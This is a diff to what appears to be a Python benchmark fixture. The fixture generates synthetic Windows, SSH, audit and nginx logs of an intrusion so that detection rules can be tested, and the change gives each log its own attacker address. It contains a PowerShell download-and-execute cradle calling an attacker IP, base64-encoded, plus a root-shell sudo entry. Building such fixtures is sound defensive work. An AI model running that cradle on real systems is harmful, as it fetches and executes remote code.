@@ -1,5 +1,5 @@
 """A small intrusion on a Windows host and on a web server, as their logs tell it: what Aurora's own rules find, with
-every field whose words an attacker chooses. Written here; its address scans nobody."""
+every field whose words an attacker chooses. Written here; its addresses attack nobody."""
 
 from __future__ import annotations
 
@@ -11,7 +11,8 @@ import orjson
 
 from benchmarks.labelled import Request, World
 
-_WHERE = "45.33.32.156"
+#: Where the attacker is, for each log another: what one host's log shows is no news about another host.
+_WHERE, _SSH, _WEB = "45.33.32.156", "45.33.32.157", "45.33.32.158"
 _POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
 _SCRIPT = f"IEX (New-Object Net.WebClient).DownloadString('http://{_WHERE}/a')"
 _ENCODED = base64.b64encode(_SCRIPT.encode("utf-16-le")).decode()
@@ -81,7 +82,7 @@ def _started(pid: int, image: str, command: str, mark: str, of: dict[str, str]) 
 
 
 def _auth(host: str, day: date) -> list[str]:
-    tried = [f"sshd[{n}]: Invalid user oracle from {_WHERE} port 40{n}" for n in range(100, 104)]
+    tried = [f"sshd[{n}]: Invalid user oracle from {_SSH} port 40{n}" for n in range(100, 104)]
     did = "www-data : TTY=unknown ; PWD=/var/www ; USER=root ; COMMAND=/bin/sh"
     return [
         f"{_at(day, place):%Y-%m-%dT%H:%M:%S}.000000+00:00 {host} {line}"
@@ -103,7 +104,7 @@ def _audit(host: str, day: date) -> list[str]:
 
 def _nginx(day: date) -> list[str]:
     return [
-        f'{_WHERE} - - [{_at(day, place):%d/%b/%Y:%H:%M:%S} +0000] "GET /search?q={place} HTTP/1.1" 200 860 "-"'
+        f'{_WEB} - - [{_at(day, place):%d/%b/%Y:%H:%M:%S} +0000] "GET /search?q={place} HTTP/1.1" 200 860 "-"'
         f' "{_SCANNER}"'
         for place in range(3)
     ]
